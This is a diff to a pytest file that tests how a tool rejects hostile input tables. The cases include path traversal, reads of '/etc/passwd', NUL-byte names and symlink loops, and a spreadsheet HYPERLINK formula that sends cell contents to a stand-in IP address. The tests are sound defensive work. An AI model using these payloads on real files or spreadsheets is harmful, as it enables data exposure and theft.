@@ -61,9 +61,9 @@ CASES: dict[str, tuple[Callable[[Path], None], int, str]] = {
     "empty": (_catalogue(b""), 1, "empty"),
     "columns-twice": (_catalogue(b"id,file,file\na,b,c\n"), 1, "twice"),
     "no-file-column": (_catalogue(b"id,path\na,b\n"), 1, "no column 'file'"),
-    "upwards": (_rows("../sound/sound.txt"), 1, "outside"),
+    "upwards": (_rows("../../outside.txt"), 1, "outside"),
     "absolute": (_rows("/etc/hostname"), 1, "outside"),
-    "nul-in-name": (_rows("a\x00b.txt", "text.txt"), 1, "not there"),
+    "nul-in-name": (_rows("a\x00b.txt", f"{'x' * 200}.txt"), 2, "not there"),
     "long-name": (_rows("a/" * 9000), 1, "not there"),
     "a-folder": (_rows("."), 1, "is a folder"),
     "a-device": (_rows("/dev/zero"), 1, "outside"),
@@ -74,7 +74,7 @@ CASES: dict[str, tuple[Callable[[Path], None], int, str]] = {
     "toml-hex": (_columns(b'file = "a.csv"\ntext = "text"\nlabel = 0x' + b"f" * 9000), 1, "must be a text"),
     "toml-large": (_columns(b"#" * (2 * MIB)), 1, "larger than"),
     "toml-latin": (_columns('file = "a.csv"\ntext = "\xe9"'.encode("latin-1")), 1, "cannot be read"),
-    "toml-upwards": (_statements(b"text\na\n", "../sound/sound.txt"), 1, "outside"),
+    "toml-upwards": (_statements(b"text\na\n", "../../outside.txt"), 1, "outside"),
     "toml-absolute": (_statements(b"text\na\n", "/etc/passwd"), 1, "outside"),
     "toml-nul": (_statements(b"text\na\n", "a\\u0000b"), 1, "cannot be opened|nowhere"),
     "toml-itself": (_statements(b"text\na\n", "columns.toml"), 1, "no column"),
@@ -82,7 +82,12 @@ CASES: dict[str, tuple[Callable[[Path], None], int, str]] = {
     "statements-cell": (_statements(b"text,n\n" + b"a" * MIB + b",1\n"), 1, "field larger"),
     "statements-binary": (_statements(bytes(range(256)) * 99), 1, "not text"),
     "circle": (lambda folder: (folder / "in").symlink_to("."), 0, ""),
-    "circle-of-two": (_link("one.txt", "two.txt"), 1, "cannot be opened|nowhere"),
+    "circle-of-two": (_link("one.txt", "two.txt"), 2, "cannot be opened|nowhere"),
+}
+ELSEWHERE = {
+    "absolute": "/etc/hostname",
+    "a-device": "/dev/zero",
+    "toml-absolute": "/etc/passwd",
 }
 FORMULA = '=HYPERLINK("http://198.51.100.1/"&A1)'
 
@@ -94,6 +99,7 @@ def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
         folder = place / "texts" / name
         folder.mkdir(parents=True)
         write(folder)
+    (place / "outside.txt").write_text("Article 8\n\nroot: a text beside the folder.\n", "utf-8")
     (place / "texts" / "sound").mkdir()
     (place / "texts" / "sound" / "sound.txt").write_text(SOUND, "utf-8")
     formula = place / "texts" / "formula"
@@ -117,8 +123,9 @@ def built(place: Path) -> Iterator[Build]:
 @pytest.mark.parametrize("name", CASES)
 def test_a_hostile_table_ends_as_one_failure_that_says_why(built: Build, name: str) -> None:
     _, times, says = CASES[name]
-    found = [f for f in built.json["failures"] if f["path"].startswith((f"{name}/", "/", "..")) and (
-        f["path"].startswith(f"{name}/"))]
+    paths = (name, ELSEWHERE.get(name, name))
+    failures = built.json["failures"]
+    found = [f for f in failures if f["path"] in paths or f["path"].startswith(f"{name}/")]
 
     assert len(found) == times, found
     assert all(any(word in f["error"] for word in says.split("|")) for f in found), found
